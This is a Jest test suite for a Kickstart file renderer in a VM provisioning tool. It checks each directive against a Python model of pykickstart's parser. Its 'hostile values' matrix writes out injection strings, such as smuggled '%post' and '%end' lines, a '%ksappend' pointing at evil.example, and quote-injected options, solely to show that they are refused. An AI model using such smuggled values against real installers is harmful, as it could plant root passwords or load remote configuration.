// Kickstart rendering: one test per directive of the grammar docs/provisioning.md documents,
// each read back the way Anaconda's parser (pykickstart) reads a file — Python's
// str.splitlines(), shlex.split(comments=True) for commands, the %-keyword rules inside
// sections — so the words it would see are checked, not just our own text. Then the hostile
// matrix: values that would add a directive, an option or a section are refused, naming the
// field, both behind the API schema and by the renderer on its own.
import { execFileSync } from 'node:child_process';
import { describe, expect, it } from '@jest/globals';
import type { InstallProfileSpec } from '../../src/api/installprofile.js';
import {
  renderKickstart,
  renderKickstartText,
  type KickstartInput,
  type KickstartResult,
} from '../../src/provisioning/kickstart.js';
import {
  KickstartValueError,
  command,
  option,
  quoted,
  scriptBody,
  word,
} from '../../src/provisioning/kickstart-syntax.js';

const ROOT_HASH = '$6$abcdefgh$bp46WUxDu2cphMRE0PvVJlqas2imuSq186YS793XKfmqn9XUEL17HECskUTZInaNigNndLLYc7A6yWBmFEFn3/';
const ADMIN_HASH = '$y$j9T$F5Jx5fExrKuPp53xLKQ..1$X3DX6M94c7o.9agCG9G317fhZg9SqC.5i5rd.RhAtQ7';
const KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq1 admin@example: laptop #2';

/** A profile with every field set, as the API server returns it (defaults applied). */
function fullSpec(): InstallProfileSpec {
  return {
    os: { family: 'rhel', name: 'Rocky', version: '9.4' },
    installTree: 'https://dl.rockylinux.org/pub/rocky/9/BaseOS/x86_64/os',
    repos: [{ name: 'appstream', baseurl: 'https://dl.rockylinux.org/pub/rocky/9/AppStream/x86_64/os' }],
    language: 'de_DE.UTF-8',
    keyboard: 'de-nodeadkeys',
    timezone: 'Europe/Berlin',
    rootPassword: { secretKeyRef: { name: 'root-pw', key: 'password-hash' } },
    users: [
      {
        name: 'admin',
        groups: ['wheel', 'adm'],
        passwordSecretRef: { name: 'admin-pw', key: 'hash' },
        sshAuthorizedKeys: [KEY],
      },
      { name: 'deploy' },
    ],
    rootSSHAuthorizedKeys: ['ssh-rsa AAAAB3NzaC1yc2E= root@example'],
    network: { bootProto: 'dhcp', hostname: 'web-1.example' },
    partitioning: { mode: 'auto', clearAll: true },
    packages: ['@^minimal-environment', '@core', 'qemu-guest-agent', '-iwl*-firmware', 'python3.11'],
    post: {
      interpreter: '/bin/bash',
      script: 'set -e\n# a comment, kept\necho "50%" > /etc/motd\n\nprintf "%s\\n" done\n',
    },
    boot: { method: 'pxe', extraArgs: 'console=tty0 console=ttyS0,115200n8 inst.text' },
    timeoutMinutes: 60,
  };
}

const PASSWORDS = { root: ROOT_HASH, users: { admin: ADMIN_HASH } };

function input(change: (spec: InstallProfileSpec) => void = () => {}): KickstartInput {
  const spec = fullSpec();
  change(spec);
  return { spec, passwords: PASSWORDS, profile: { namespace: 'ns', name: 'rocky-9' } };
}

function rendered(change?: (spec: InstallProfileSpec) => void): string {
  const result = renderKickstart(input(change));
  if (!result.ok) throw new Error(`did not render: ${JSON.stringify(result.problems)}`);
  return result.text;
}

// ---------------------------------------------------------------------------------------------
// pykickstart's reading of a file, in Python: the real splitlines() and shlex.

interface Parsed {
  commands: string[][];
  sections: Array<{ header: string[]; body: string[] }>;
  errors: string[];
}

const PYKICKSTART_READER = String.raw`
import json, shlex, sys
text = sys.stdin.read()
SECTIONS = {"%packages", "%pre", "%pre-install", "%post", "%traceback", "%onerror", "%addon", "%anaconda"}
out = {"commands": [], "sections": [], "errors": []}
lines = text.splitlines(True)
for l in lines:
    if l.strip().startswith("%ksappend"):
        out["errors"].append("%ksappend line: " + l.strip())
i = 0
def blank_or_comment(l):
    return l.isspace() or l == "" or l.lstrip()[0] == "#"
while i < len(lines):
    line = lines[i]; i += 1
    if blank_or_comment(line):
        continue
    args = shlex.split(line, comments=True)
    if args[0] == "%include":
        out["errors"].append("%include"); continue
    if not args[0].startswith("%"):
        out["commands"].append(args); continue
    if args[0] not in SECTIONS:
        out["errors"].append("unknown section " + args[0])
    section = {"header": args, "body": []}
    scripts = args[0] != "%packages"
    ended = False
    while i < len(lines):
        l = lines[i]; i += 1
        if blank_or_comment(l) and not scripts:
            continue
        if l.lstrip().startswith("%"):
            first = l.split()[0]
            if first not in SECTIONS and first not in ("%end", "%include"):
                section["body"].append(l); continue
            a = shlex.split(l)
            if a and a[0] == "%end":
                ended = True; break
            out["errors"].append("section keyword inside " + args[0] + ": " + a[0])
            continue
        if scripts:
            section["body"].append(l)
        else:
            section["body"].append(l.partition("#")[0].strip())
    if not ended:
        out["errors"].append(args[0] + " does not end with %end")
    out["sections"].append(section)
print(json.dumps(out))
`;

// The interpreter itself, not a version manager's shim: a shim costs a second per call.
const PYTHON = execFileSync('python3', ['-c', 'import sys; print(sys.executable)'], { encoding: 'utf8' }).trim();

function pykickstartRead(text: string): Parsed {
  return JSON.parse(execFileSync(PYTHON, ['-c', PYKICKSTART_READER], { input: text, encoding: 'utf8' })) as Parsed;
}

/** The commands named `directive`, each as the words pykickstart hands to its option parser. */
function commandsOf(text: string, directive: string): string[][] {
  const parsed = pykickstartRead(text);
  expect(parsed.errors).toEqual([]);
  return parsed.commands.filter((words) => words[0] === directive);
}

function sectionOf(text: string, header: string): { header: string[]; body: string[] } {
  const parsed = pykickstartRead(text);
  expect(parsed.errors).toEqual([]);
  const sections = parsed.sections.filter((section) => section.header[0] === header);
  expect(sections).toHaveLength(1);
  return sections[0]!;
}

// ---------------------------------------------------------------------------------------------

describe('the Kickstart of a full profile', () => {
  it('is read by pykickstart as the commands and sections of the documented grammar, in order', () => {
    const parsed = pykickstartRead(rendered());
    expect(parsed.errors).toEqual([]);
    expect(parsed.commands.map((words) => words[0])).toEqual([
      'text',
      'url',
      'repo',
      'lang',
      'keyboard',
      'timezone',
      'network',
      'rootpw',
      'user',
      'user',
      'sshkey',
      'sshkey',
      'bootloader',
      'zerombr',
      'clearpart',
      'autopart',
      'poweroff',
    ]);
    expect(parsed.sections.map((section) => section.header[0])).toEqual(['%packages', '%post']);
  });

  it('starts with comments naming the profile and the OS, and ends with a newline', () => {
    const text = rendered();
    expect(text.split('\n').slice(0, 2)).toEqual([
      '# Kickstart of InstallProfile ns/rocky-9: Rocky 9.4 (rhel family).',
      '# Rendered by virtfleet from the profile and its Secrets; change the profile, not this file.',
    ]);
    expect(text.endsWith('%end\n')).toBe(true);
  });

  it('is the same bytes, and the same sha256, every time', () => {
    const a = renderKickstart(input());
    const b = renderKickstart(input());
    expect(a).toEqual(b);
    expect(a.ok && a.hash).toMatch(/^sha256:[0-9a-f]{64}$/);
    const changed = renderKickstart(input((spec) => (spec.timezone = 'UTC')));
    expect(changed.ok && changed.hash).not.toBe(a.ok && a.hash);
  });
});

describe('one directive at a time', () => {
  it('text: a text-mode install (no display needed)', () => {
    expect(commandsOf(rendered(), 'text')).toEqual([['text']]);
  });

  it('url: the install tree', () => {
    expect(commandsOf(rendered(), 'url')).toEqual([
      ['url', '--url=https://dl.rockylinux.org/pub/rocky/9/BaseOS/x86_64/os'],
    ]);
  });

  it('repo: one per extra repository, by name', () => {
    const text = rendered((spec) =>
      spec.repos!.push({ name: 'epel', baseurl: 'https://mirror.example/epel/9/Everything/x86_64/?arch=x86_64&a=(b)' }),
    );
    expect(commandsOf(text, 'repo')).toEqual([
      ['repo', '--name=appstream', '--baseurl=https://dl.rockylinux.org/pub/rocky/9/AppStream/x86_64/os'],
      ['repo', '--name=epel', '--baseurl=https://mirror.example/epel/9/Everything/x86_64/?arch=x86_64&a=(b)'],
    ]);
    expect(
      commandsOf(
        rendered((spec) => delete spec.repos),
        'repo',
      ),
    ).toEqual([]);
  });

  it('lang: the system locale', () => {
    expect(commandsOf(rendered(), 'lang')).toEqual([['lang', 'de_DE.UTF-8']]);
  });

  it('keyboard: the console keymap (Anaconda derives the X layout from it)', () => {
    expect(commandsOf(rendered(), 'keyboard')).toEqual([['keyboard', '--vckeymap=de-nodeadkeys']]);
  });

  it('timezone: the zone, with the hardware clock in UTC', () => {
    expect(commandsOf(rendered(), 'timezone')).toEqual([['timezone', 'Europe/Berlin', '--utc']]);
  });

  it('network: dhcp, with a host name when set, activated', () => {
    expect(commandsOf(rendered(), 'network')).toEqual([
      ['network', '--bootproto=dhcp', '--hostname=web-1.example', '--activate'],
    ]);
    expect(
      commandsOf(
        rendered((spec) => (spec.network = { bootProto: 'dhcp' })),
        'network',
      ),
    ).toEqual([['network', '--bootproto=dhcp', '--activate']]);
  });

  it('network: static, with device, address, netmask, gateway, name servers and host name', () => {
    const text = rendered((spec) => {
      spec.network = {
        bootProto: 'static',
        device: 'ens3',
        ip: '192.0.2.10',
        netmask: '255.255.255.0',
        gateway: '192.0.2.1',
        nameservers: ['192.0.2.53', '198.51.100.53'],
        hostname: 'db-1',
      };
    });
    expect(commandsOf(text, 'network')).toEqual([
      [
        'network',
        '--bootproto=static',
        '--device=ens3',
        '--ip=192.0.2.10',
        '--netmask=255.255.255.0',
        '--gateway=192.0.2.1',
        '--nameserver=192.0.2.53,198.51.100.53',
        '--hostname=db-1',
        '--activate',
      ],
    ]);
  });

  it('rootpw: the crypt hash from the Secret, marked --iscrypted', () => {
    expect(commandsOf(rendered(), 'rootpw')).toEqual([['rootpw', '--iscrypted', ROOT_HASH]]);
  });

  it('rootpw --lock: when the profile names no root password', () => {
    const result = renderKickstartText({
      ...input((spec) => delete (spec as Partial<InstallProfileSpec>).rootPassword),
      passwords: { users: PASSWORDS.users },
    });
    expect(result.ok && commandsOf(result.text, 'rootpw')).toEqual([['rootpw', '--lock']]);
  });

  it('user: name, groups, and the crypt hash when the user has a password; none without', () => {
    expect(commandsOf(rendered(), 'user')).toEqual([
      ['user', '--name=admin', '--groups=wheel,adm', '--iscrypted', `--password=${ADMIN_HASH}`],
      ['user', '--name=deploy'],
    ]);
  });

  it("sshkey: one per key, root's first, each key one quoted word (a comment with spaces and '#' included)", () => {
    expect(commandsOf(rendered(), 'sshkey')).toEqual([
      ['sshkey', '--username=root', 'ssh-rsa AAAAB3NzaC1yc2E= root@example'],
      ['sshkey', '--username=admin', KEY],
    ]);
  });

  it('bootloader: in the MBR, with the console= arguments of boot.extraArgs for the installed system', () => {
    expect(commandsOf(rendered(), 'bootloader')).toEqual([
      ['bootloader', '--location=mbr', '--append=console=tty0 console=ttyS0,115200n8'],
    ]);
    expect(
      commandsOf(
        rendered((spec) => (spec.boot = { method: 'kernel' })),
        'bootloader',
      ),
    ).toEqual([['bootloader', '--location=mbr']]);
  });

  it('zerombr and clearpart --all --initlabel: clearAll erases every disk; without it nothing is cleared', () => {
    expect([...commandsOf(rendered(), 'zerombr'), ...commandsOf(rendered(), 'clearpart')]).toEqual([
      ['zerombr'],
      ['clearpart', '--all', '--initlabel'],
    ]);
    const kept = rendered((spec) => (spec.partitioning.clearAll = false));
    expect(commandsOf(kept, 'zerombr')).toEqual([]);
    expect(commandsOf(kept, 'clearpart')).toEqual([['clearpart', '--none']]);
  });

  it('autopart --type=lvm: mode auto', () => {
    expect(commandsOf(rendered(), 'autopart')).toEqual([['autopart', '--type=lvm']]);
    expect(commandsOf(rendered(), 'part')).toEqual([]);
  });

  it('part: mode manual, one per partition, sizes in whole MiB rounded down, efi for a vfat /boot/efi', () => {
    const text = rendered((spec) => {
      spec.partitioning = {
        mode: 'manual',
        clearAll: true,
        parts: [
          { mountPoint: 'biosboot', fsType: 'biosboot', size: '1Mi', grow: false },
          { mountPoint: '/boot/efi', fsType: 'vfat', size: '600Mi', grow: false },
          { mountPoint: '/boot', fsType: 'xfs', size: '1G', grow: false },
          { mountPoint: 'swap', fsType: 'swap', size: '2Gi', grow: false },
          { mountPoint: '/', fsType: 'ext4', size: '10.5Gi', grow: true },
        ],
      };
    });
    expect(commandsOf(text, 'autopart')).toEqual([]);
    expect(commandsOf(text, 'part')).toEqual([
      ['part', 'biosboot', '--fstype=biosboot', '--size=1'],
      ['part', '/boot/efi', '--fstype=efi', '--size=600'],
      ['part', '/boot', '--fstype=xfs', '--size=953'],
      ['part', 'swap', '--fstype=swap', '--size=2048'],
      ['part', '/', '--fstype=ext4', '--size=10752', '--grow'],
    ]);
  });

  it('poweroff: the installed guest powers off, so the controller can switch it to booting from disk', () => {
    expect(commandsOf(rendered(), 'poweroff')).toEqual([['poweroff']]);
    expect(commandsOf(rendered(), 'reboot')).toEqual([]);
  });

  it('%packages: names, @groups, @^environments and -exclusions, one per line, in order', () => {
    expect(sectionOf(rendered(), '%packages')).toEqual({
      header: ['%packages'],
      body: ['@^minimal-environment', '@core', 'qemu-guest-agent', '-iwl*-firmware', 'python3.11'],
    });
  });

  it('%packages: present and empty without packages (the @core group only, not the distribution default)', () => {
    expect(
      sectionOf(
        rendered((spec) => delete spec.packages),
        '%packages',
      ),
    ).toEqual({ header: ['%packages'], body: [] });
  });

  it('%post: the script as written (blank lines, comments and % inside lines kept), with its interpreter', () => {
    const post = sectionOf(rendered(), '%post');
    expect(post.header).toEqual(['%post', '--interpreter=/bin/bash']);
    expect(post.body.join('')).toBe(fullSpec().post!.script);
  });

  it('%post: no --interpreter for /bin/sh, and a final newline added when the script lacks one', () => {
    const post = sectionOf(
      rendered((spec) => (spec.post = { interpreter: '/bin/sh', script: 'touch /done' })),
      '%post',
    );
    expect(post).toEqual({ header: ['%post'], body: ['touch /done\n'] });
    expect(pykickstartRead(rendered((spec) => delete spec.post)).sections.map((s) => s.header[0])).toEqual([
      '%packages',
    ]);
  });

  it('the header names the OS family: fedora', () => {
    expect(rendered((spec) => (spec.os = { family: 'fedora', name: 'Fedora', version: '40' })).split('\n')[0]).toBe(
      '# Kickstart of InstallProfile ns/rocky-9: Fedora 40 (fedora family).',
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Hostile values

interface Hostile {
  what: string;
  change: (spec: InstallProfileSpec) => void;
  path: string;
  message: RegExp;
}

const HOSTILE: Hostile[] = [
  {
    what: 'a newline and %post in a package name',
    change: (s) => (s.packages = ['vim', 'vim\n%post']),
    path: 'spec.packages[1]',
    message: /not a package/,
  },
  {
    what: '%post as a package name',
    change: (s) => (s.packages = ['vim', 'qemu-guest-agent', '%post']),
    path: 'spec.packages[2]',
    message: /not a package/,
  },
  {
    what: '%end as an exclusion',
    change: (s) => (s.packages = ['-%end']),
    path: 'spec.packages[0]',
    message: /not a package/,
  },
  {
    what: 'a package with a comment',
    change: (s) => (s.packages = ['vim # and more']),
    path: 'spec.packages[0]',
    message: /not a package/,
  },
  {
    what: 'a Unicode line separator in a package',
    change: (s) => (s.packages = ['vim\u2028%post']),
    path: 'spec.packages[0]',
    message: /not a package/,
  },
  {
    what: '%end ending %post early',
    change: (s) => (s.post!.script = 'echo hi\n%end\nrootpw --plaintext x\n'),
    path: 'spec.post.script',
    message: /section keyword/,
  },
  {
    what: 'an indented %end',
    change: (s) => (s.post!.script = 'echo hi\n \t%end\n'),
    path: 'spec.post.script',
    message: /section keyword|line 2/,
  },
  {
    what: '%ksappend in a script',
    change: (s) => (s.post!.script = '%ksappend http://evil.example/ks\n'),
    path: 'spec.post.script',
    message: /section keyword|line 1/,
  },
  {
    what: '%include in a script',
    change: (s) => (s.post!.script = 'true\n%include /tmp/ks\n'),
    path: 'spec.post.script',
    message: /section keyword|line 2/,
  },
  {
    what: 'a %end indented with a no-break space (Python strips it)',
    change: (s) => (s.post!.script = 'echo hi\n\u00a0%end\nrootpw --plaintext x\n'),
    path: 'spec.post.script',
    message: /line 2 starts with '%'|section keyword/,
  },
  {
    what: 'a %end after a file separator (Python splits lines at U+001C)',
    change: (s) => (s.post!.script = 'echo hi\x1c%end\nrootpw --plaintext x\n'),
    path: 'spec.post.script',
    message: /U\+001C|control characters/,
  },
  {
    what: 'a %end after a next-line character (U+0085)',
    change: (s) => (s.post!.script = 'echo hi\u0085%end\n'),
    path: 'spec.post.script',
    message: /U\+0085|control characters/,
  },
  {
    what: 'a carriage return in a script',
    change: (s) => (s.post!.script = 'echo hi\r\n'),
    path: 'spec.post.script',
    message: /carriage return|LF line endings/,
  },
  {
    what: 'an option in the interpreter',
    change: (s) => (s.post!.interpreter = '/bin/bash --nochroot'),
    path: 'spec.post.interpreter',
    message: /absolute path/,
  },
  {
    what: 'a directive after a newline in the language',
    change: (s) => (s.language = 'en_US.UTF-8\nrootpw --plaintext x'),
    path: 'spec.language',
    message: /not a locale/,
  },
  {
    what: 'an option in the time zone',
    change: (s) => (s.timezone = 'UTC --ntpservers=evil.example'),
    path: 'spec.timezone',
    message: /not a time zone/,
  },
  {
    what: 'a section in the keymap',
    change: (s) => (s.keyboard = 'us\n%post'),
    path: 'spec.keyboard',
    message: /not a console keymap/,
  },
  {
    what: 'a quote in the install tree',
    change: (s) => (s.installTree = 'http://x.example/os" --noverifyssl "'),
    path: 'spec.installTree',
    message: /URL of safe characters/,
  },
  {
    what: 'a comment in the install tree',
    change: (s) => (s.installTree = 'http://x.example/os#frag'),
    path: 'spec.installTree',
    message: /URL of safe characters/,
  },
  {
    what: 'a quote in a repository name',
    change: (s) => (s.repos = [{ name: 'a" --baseurl="http://evil', baseurl: 'http://x.example/' }]),
    path: 'spec.repos[0].name',
    message: /not a repository id/,
  },
  {
    what: 'a quote in an SSH key comment',
    change: (s) => (s.rootSSHAuthorizedKeys = ['ssh-ed25519 AAAA x" --username="nobody']),
    path: 'spec.rootSSHAuthorizedKeys[0]',
    message: /not one SSH public key/,
  },
  {
    what: 'a newline in an SSH key',
    change: (s) => (s.users![0]!.sshAuthorizedKeys = ['ssh-ed25519 AAAA a\n%post']),
    path: 'spec.users[0].sshAuthorizedKeys[0]',
    message: /not one SSH public key/,
  },
  {
    what: 'an option as a user name',
    change: (s) => (s.users![1]!.name = '--lock'),
    path: 'spec.users[1].name',
    message: /not a Linux user/,
  },
  {
    what: 'an option in a group',
    change: (s) => (s.users![0]!.groups = ['wheel --password=x']),
    path: 'spec.users[0].groups[0]',
    message: /not a Linux user or group/,
  },
  {
    what: 'an option in the host name',
    change: (s) => (s.network.hostname = 'h --device=eth9'),
    path: 'spec.network.hostname',
    message: /not a DNS subdomain/,
  },
  {
    what: 'an option in the address',
    change: (s) => (s.network = { bootProto: 'static', ip: '1.2.3.4 -x', netmask: '255.0.0.0' }),
    path: 'spec.network.ip',
    message: /not an IPv4/,
  },
  {
    what: 'an option in a mount point',
    change: (s) =>
      (s.partitioning = {
        mode: 'manual',
        clearAll: true,
        parts: [{ mountPoint: '/ --fstype=xfs', fsType: 'xfs', size: '1Gi', grow: false }],
      }),
    path: 'spec.partitioning.parts[0].mountPoint',
    message: /not a mount point/,
  },
  {
    what: 'a directive after a newline in the OS name (the header comment)',
    change: (s) => (s.os.name = 'Rocky\nrootpw --plaintext x'),
    path: 'spec.os.name',
    message: /not an OS name/,
  },
  {
    what: 'a quote in kernel arguments',
    change: (s) => (s.boot.extraArgs = 'console=ttyS0" --location=none'),
    path: 'spec.boot.extraArgs',
    message: /kernel arguments/,
  },
];

describe('hostile values', () => {
  it.each(HOSTILE)('refuses $what, naming $path', ({ change, path, message }) => {
    const result = renderKickstart(input(change));
    expect(result.ok).toBe(false);
    const problems = (result as Extract<KickstartResult, { ok: false }>).problems;
    expect(problems.map((p) => p.path)).toEqual([path]);
    expect(problems[0]!.message).toMatch(message);
  });

  it.each(HOSTILE)('refuses $what in the renderer itself, without the API schema', ({ change, path, message }) => {
    const result = renderKickstartText(input(change));
    expect(result.ok).toBe(false);
    const problems = (result as Extract<KickstartResult, { ok: false }>).problems;
    expect(problems.map((p) => p.path)).toContain(path);
    expect(problems.find((p) => p.path === path)!.message).toMatch(message);
  });

  it('refuses a password hash that is not a crypt hash, or would carry a second line', () => {
    const passwords = (root: string) => ({ ...input(), passwords: { root, users: PASSWORDS.users } });
    for (const root of [`${ROOT_HASH}\nrootpw --plaintext x`, 'hunter2', `${ROOT_HASH} --lock`, '$1$abc$def']) {
      const result = renderKickstartText(passwords(root));
      expect(result).toEqual({
        ok: false,
        problems: [{ path: 'spec.rootPassword.secretKeyRef', message: expect.stringMatching(/no crypt hash/) }],
      });
      expect(JSON.stringify(result)).not.toContain(root.split('\n')[1] ?? '\u0000');
    }
  });

  it('reports every problem of a profile at once, each with its path', () => {
    const result = renderKickstartText(
      input((s) => {
        s.packages = ['ok', '%post'];
        s.timezone = 'UTC\n';
        s.post!.script = '%end';
      }),
    );
    expect(result.ok === false && result.problems.map((p) => p.path)).toEqual([
      'spec.timezone',
      'spec.packages[1]',
      'spec.post.script',
    ]);
  });

  it('the gates: bare words, quoted strings and script bodies', () => {
    const refusal = (fn: () => unknown) => {
      try {
        fn();
      } catch (error) {
        return error instanceof KickstartValueError ? `${error.path}: ${error.message}` : String(error);
      }
      return 'accepted';
    };
    expect(word('en_US.UTF-8', 'p')).toBe('en_US.UTF-8');
    expect(refusal(() => word('a b', 'p'))).toMatch(/^p: .*space/);
    expect(refusal(() => word('a#b', 'p'))).toMatch(/'#'/);
    expect(refusal(() => word('--x', 'p'))).toMatch(/option/);
    expect(refusal(() => word('%post', 'p'))).toMatch(/section keyword/);
    expect(refusal(() => word('', 'p'))).toMatch(/empty/);
    expect(quoted('a "b" \\c #d', 'p')).toBe('"a \\"b\\" \\\\c #d"');
    expect(refusal(() => quoted('a\u2029b', 'p'))).toMatch(/line break/);
    expect(refusal(() => quoted('a\x1eb', 'p'))).toMatch(/line break/);
    expect(refusal(() => quoted('a\x07b', 'p'))).toMatch(/control character/);
    expect(refusal(() => option('name', 'a\nb', 'p'))).toMatch(/line break/);
    expect(refusal(() => command('rootpw\nx'))).toMatch(/not a Kickstart directive/);
    expect(scriptBody('echo 100%\n  echo %end\n', 'p')).toBe('echo 100%\n  echo %end\n');
    expect(refusal(() => scriptBody('a\n\u3000%end', 'p'))).toMatch(/line 2 starts with '%'/);
    // What the quoting produces, pykickstart reads back as the value.
    const value = 'ssh-ed25519 AAAA a "b" \\c #d';
    expect(pykickstartRead(`sshkey --username=root ${quoted(value, 'p')}\n`).commands).toEqual([
      ['sshkey', '--username=root', value],
    ]);
  });
});
